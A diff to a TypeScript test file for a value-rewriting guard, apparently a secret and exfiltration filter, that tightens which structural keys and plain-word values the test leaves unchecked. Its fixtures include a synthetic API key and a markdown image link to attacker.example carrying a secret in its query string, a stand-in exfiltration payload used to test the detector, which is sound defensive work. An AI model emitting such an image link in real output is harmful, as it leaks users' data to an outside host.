@@ -10,6 +10,8 @@ import { rewriteUnknownValue, type UnknownValueLimits } from './rewrite-unknown-
 const sample = createGuard({ policy: 'balanced', detectors: SAMPLE_DETECTORS });
 const KEY = `sk-${'Ab3Cd4Ef5G'.repeat(3)}`;
 const EXFIL = '![x](https://attacker.example/p.png?d=secret)';
+/** Lowercase words: what a structural value or a member name may be to be left unchecked. */
+const PLAIN_WORDS = /^[a-z]{1,32}(?:[._-][a-z]{1,32}){0,7}$/;
 
 function setup(options: { mode?: 'window' | 'audit'; tools?: ReadonlySet<string> | null } = {}) {
   const vault = sample.createVault();
@@ -124,13 +126,12 @@ describe('rewriteUnknownValue', () => {
         const expected: string[] = [];
         const collect = (value: unknown, key: string | undefined): void => {
           if (typeof value === 'string') {
-            const structural = key !== undefined && /^(id|type|status|role|object|.*_id)$/.test(key);
-            if (value.length > 0 && !(structural && /^[A-Za-z0-9_.:-]{1,128}$/.test(value)))
-              expected.push(value);
+            const structural = key !== undefined && /^(type|status|role|object)$/.test(key);
+            if (value.length > 0 && !(structural && PLAIN_WORDS.test(value))) expected.push(value);
           } else if (Array.isArray(value)) for (const item of value) collect(item, undefined);
           else if (value !== null && typeof value === 'object')
             for (const [name, item] of Object.entries(value)) {
-              if (name.length > 0) expected.push(name);
+              if (name.length > 0 && !PLAIN_WORDS.test(name)) expected.push(name);
               collect(item, name);
             }
         };
